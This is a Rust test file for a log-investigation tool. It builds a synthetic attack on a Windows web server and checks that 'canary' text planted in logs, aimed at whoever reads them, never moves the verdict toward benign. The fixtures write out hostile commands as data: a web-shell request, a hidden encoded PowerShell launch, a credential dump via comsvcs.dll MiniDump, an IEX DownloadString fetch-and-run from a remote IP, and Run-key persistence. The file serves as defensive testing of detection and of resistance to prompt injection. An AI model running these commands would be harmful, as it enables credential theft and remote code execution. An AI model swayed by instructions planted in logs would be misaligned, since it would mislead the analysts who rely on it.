//! Text that an attacker plants in a log never moves a verdict toward benign.
//!
//! Whole investigations over a real store, from rules and facts alone: an attack clean, and with every canary
//! in it. What the readers make of planted text is measured by `casemate eval`.
#![allow(clippy::unwrap_used)]

use casemate_detect::Rules;
use casemate_event::{
    Alert, AlertId, AlertOrigin, Batch, Class, Event, EventId, Fields, Format, Severity, TemplateId,
    TimeQuality, field,
};
use casemate_ingest::template;
use casemate_investigate::{Investigation, Investigator, Playbooks, Site, canary, injection};
use casemate_pipeline::Pipeline;
use jiff::Timestamp;
use std::sync::Arc;

const START: i64 = 1_715_695_200;

fn event(seconds: i64, class: Class, fields: &[(&str, &str)]) -> Event {
    Event {
        time: Timestamp::from_second(START + seconds).unwrap(),
        time_quality: TimeQuality::Stated,
        format: Format::WindowsJson,
        class,
        source: "log.json".to_owned(),
        position: 1,
        template: TemplateId(0),
        template_text: String::new(),
        message: fields.iter().map(|(_, value)| *value).collect::<Vec<_>>().join(" "),
        fields: fields.iter().copied().collect(),
        native: Fields::default(),
        raw: Vec::new(),
    }
}

const HOST: (&str, &str) = (field::DEVICE_HOSTNAME, "ws5");

/// A web server is attacked, guessed at, and made to run and install things: every channel is in it.
fn attack() -> Vec<Event> {
    let launch = |seconds, command: &str, name: &str, parent: &str| {
        event(
            seconds,
            Class::ProcessActivity,
            &[
                HOST,
                (field::ACTIVITY, "Launch"),
                (field::ACTOR_USER, "alice"),
                (field::PROCESS_PATH, name),
                (field::PROCESS_CMD_LINE, command),
                (field::PARENT_PROCESS_PATH, parent),
            ],
        )
    };
    let mut events = vec![
        event(
            0,
            Class::HttpActivity,
            &[
                HOST,
                (field::URL, "/a.php?cmd=whoami"),
                (field::USER_AGENT, "curl/8"),
                (field::SRC_IP, "203.0.113.9"),
            ],
        ),
        launch(
            20,
            "powershell -w hidden -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
            r"C:\Windows\System32\powershell.exe",
            r"C:\inetpub\w3wp.exe",
        ),
        launch(
            40,
            r"rundll32 C:\windows\System32\comsvcs.dll MiniDump 612 C:\Users\Public\x.dmp full",
            r"C:\Windows\System32\rundll32.exe",
            r"C:\Windows\System32\powershell.exe",
        ),
        event(
            50,
            Class::FileSystemActivity,
            &[
                HOST,
                (field::ACTIVITY, "Create"),
                (field::FILE_PATH, r"C:\Users\Public\x.dmp"),
                (field::ACTOR_USER, "alice"),
            ],
        ),
        event(
            60,
            Class::ScriptActivity,
            &[
                HOST,
                (field::SCRIPT, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"),
                (field::ACTOR_USER, "alice"),
            ],
        ),
        event(
            70,
            Class::WindowsServiceActivity,
            &[
                HOST,
                (field::ACTIVITY, "Create"),
                (field::SERVICE_NAME, "PSEXESVC"),
                (field::PROCESS_CMD_LINE, r"%COMSPEC% /c C:\Windows\Temp\a.bat"),
            ],
        ),
        event(
            80,
            Class::RegistryKeyActivity,
            &[
                HOST,
                (field::ACTIVITY, "Set"),
                (field::REGISTRY_KEY, r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\a"),
                (field::REGISTRY_VALUE, r"C:\Windows\Temp\a.bat"),
            ],
        ),
        event(90, Class::DnsActivity, &[HOST, (field::QUERY_HOSTNAME, "a.example.net")]),
    ];
    for n in 0..9 {
        events.push(event(
            100 + n,
            Class::Authentication,
            &[
                HOST,
                (field::ACTIVITY, "Logon"),
                (field::STATUS, "Failure"),
                (field::USER, "bob"),
                (field::SRC_IP, "203.0.113.9"),
                (field::SRC_HOSTNAME, "PC7"),
            ],
        ));
    }
    events
}

fn investigate(mut events: Vec<Event>) -> Investigation {
    for (event, position) in events.iter_mut().zip(1..) {
        event.position = position;
        event.template_text = template::mask(&event.message);
        event.template = template::id(&event.template_text);
    }
    let directory = tempfile::tempdir().unwrap();
    let pipeline = Pipeline::open(directory.path(), Rules::default(), None).unwrap();
    pipeline.store().append(&Batch { events, ..Batch::default() }).unwrap();
    let playbooks =
        Playbooks::load(std::path::Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../../config/playbooks")))
            .unwrap();
    let alert = Alert {
        id: AlertId(1),
        origin: AlertOrigin::Rule("a-rule".to_owned()),
        title: "title".to_owned(),
        severity: Severity::Medium,
        techniques: Vec::new(),
        first_time: Timestamp::from_second(START).unwrap(),
        last_time: Timestamp::from_second(START).unwrap(),
        events: vec![EventId(2)],
        event_count: 1,
        entities: Vec::new(),
    };
    let mut investigator = Investigator::new(Arc::new(pipeline), None, playbooks, Site::default());
    investigator.investigate(&alert, &mut |_| {}).unwrap()
}

/// The sum behind the verdict.
fn logit(case: &Investigation) -> f64 {
    case.contributions.iter().map(|term| term.weight).sum()
}

#[test]
fn no_canary_lowers_the_probability_of_an_attack() {
    let clean = investigate(attack());
    assert!(clean.facts.len() >= 8, "{:?}", clean.facts);
    let mut seen = 0;
    for canary in canary::suite() {
        let mut events = attack();
        let planted = canary.plant_case(&mut events);
        assert!(planted > 0);
        let found = events.iter().any(|event| injection::find(event).is_some());
        let case = investigate(events);
        assert!(
            logit(&case) >= logit(&clean) - 1e-9 && case.verdict == clean.verdict,
            "{}: {} {} against {} {}: {:?} against {:?}",
            canary.name,
            case.verdict,
            case.probability,
            clean.verdict,
            clean.probability,
            case.contributions,
            clean.contributions
        );
        // What is seen is said.
        let said = case.facts.iter().any(|fact| fact.name == "instruction_like_text");
        assert_eq!(said, found, "{}", canary.name);
        seen += usize::from(said);
        let fact_names: Vec<&str> = case.facts.iter().map(|fact| fact.name.as_str()).collect();
        for fact in &clean.facts {
            assert!(fact_names.contains(&fact.name.as_str()), "{}: {} is gone", canary.name, fact.name);
        }
    }
    println!("{seen} of {} canaries are reported as text that talks to its reader", canary::suite().len());
}

#[test]
fn a_flood_of_harmless_events_pushes_no_evidence_out() {
    let clean = investigate(attack());
    let mut events = attack();
    for n in 0..600 {
        events.push(event(
            n / 4,
            Class::HttpActivity,
            &[
                HOST,
                (field::URL, &format!("/help/page{n}.html")),
                (field::USER_AGENT, &format!("Mozilla/5.0 reader {n}")),
                (field::SRC_IP, "203.0.113.9"),
            ],
        ));
    }
    let flooded = investigate(events);
    assert!(logit(&flooded) >= logit(&clean) - 1e-9, "{} {}", flooded.probability, clean.probability);
}
